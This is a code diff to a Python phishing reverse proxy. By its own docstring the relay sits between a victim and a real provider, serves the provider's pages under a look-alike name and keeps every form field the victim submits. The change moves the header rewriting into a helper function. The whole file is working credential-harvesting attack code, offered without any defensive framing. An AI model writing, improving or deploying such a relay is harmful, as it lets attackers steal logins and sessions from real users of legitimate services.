@@ -1,5 +1,5 @@
 """The phisher's proxy between a victim and a provider: it shows the real pages under a name of its own, and keeps what passes."""
-from collections.abc import Callable
+from collections.abc import Callable, Iterable
 
 import httpx
 from werkzeug.wrappers import Request, Response
@@ -22,8 +22,13 @@ class Relay:
         request = Request(environ)
         body = request.get_data()
         self.typed |= request.form.to_dict()
-        asked = {name: value.replace(self.fake, self.real) for name, value in request.headers if name.lower() not in NOT_PASSED_ON}
-        answer = self.network.request(request.method, self.real + request.full_path, headers=asked, content=body)
-        passed = [(name, value.replace(self.real, self.fake)) for name, value in answer.headers.items() if name not in NOT_PASSED_ON]
+        headers = passed_on(request.headers, self.fake, self.real)
+        answer = self.network.request(request.method, self.real + request.full_path, headers=headers, content=body)
+        headers = passed_on(answer.headers.multi_items(), self.real, self.fake)
         page = self.rewrite(answer.text.replace(self.real, self.fake))
-        return Response(page, answer.status_code, passed)(environ, start_response)
+        return Response(page, answer.status_code, headers)(environ, start_response)
+
+
+def passed_on(headers: Iterable[tuple[str, str]], old: str, new: str) -> list[tuple[str, str]]:
+    """The headers that a relay hands on, with its own name in the place of the provider's or the other way round."""
+    return [(name, value.replace(old, new)) for name, value in headers if name.lower() not in NOT_PASSED_ON]
